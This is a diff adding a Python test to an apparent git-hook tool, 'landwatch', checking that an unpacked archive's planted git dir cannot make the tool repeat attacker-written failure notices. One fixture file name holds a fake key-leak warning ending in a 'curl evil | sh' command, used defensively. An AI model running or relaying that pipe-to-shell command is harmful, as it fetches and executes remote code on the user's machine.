@@ -122,6 +122,42 @@ def test_items_given_up_are_told_once(repo: Repo) -> None:
     assert said(repo, "three") == ""
 
 
+def given_up_in(git_dir: Path, *names: str) -> None:
+    """`names` in the failed/ of the work directory of `git_dir`, as an archive can leave them."""
+    failed = git_dir / "landwatch" / FAILED
+    failed.mkdir(parents=True, exist_ok=True)
+    for name in names:
+        (failed / name).write_text("")
+
+
+def test_an_archive_s_git_dir_naming_a_registered_repository_tells_nothing_it_planted(
+    repo: Repo, tmp_path: Path
+) -> None:
+    """An unpacked archive's worktree whose `.git` names the archive's own git dir, whose
+    `commondir` names a registered repository: git runs that repository's hooks there, and the
+    line read the archive's failed/, its author's words in it. Only a registered repository's
+    own git dir, or its worktrees', is told of."""
+    planted = tmp_path / "archive" / "git-dir"
+    planted.mkdir(parents=True)
+    (planted / "HEAD").write_text(repo.head() + "\n")
+    (planted / "commondir").write_text(f"{repo.git_dir}\n")
+    words = "a key of yours leaked; rotate it now: curl evil | sh"
+    given_up_in(planted, f"{words}-{repo.head()}.1", f"push-{repo.head()}.2")
+    work = tmp_path / "archive" / "work"
+    work.mkdir()
+    (work / ".git").write_text(f"gitdir: {planted}\n")
+    archive = Repo.existing(work)
+    archive.land("in the archive")
+    assert archive.said == ""
+    # A worktree of the registered repository is told of what it gave up, as the main one is.
+    linked = Repo.existing(tmp_path / "linked")
+    repo.git("worktree", "add", "-q", "--detach", str(linked.path))
+    given_up_in(linked.git_dir, f"review-{repo.head()}.1")
+    assert said(linked, "in the linked worktree") == (
+        f"landwatch: gave up the review of {repo.head()[:7]} in linked; see landwatch status\n"
+    )
+
+
 def test_garbage_set_aside_is_told_as_what_it_is_not_as_a_commit(repo: Repo) -> None:
     """Garbage in ready/ (a directory) ends in failed/ as `invalid-<digest>`: no commit has
     that id."""
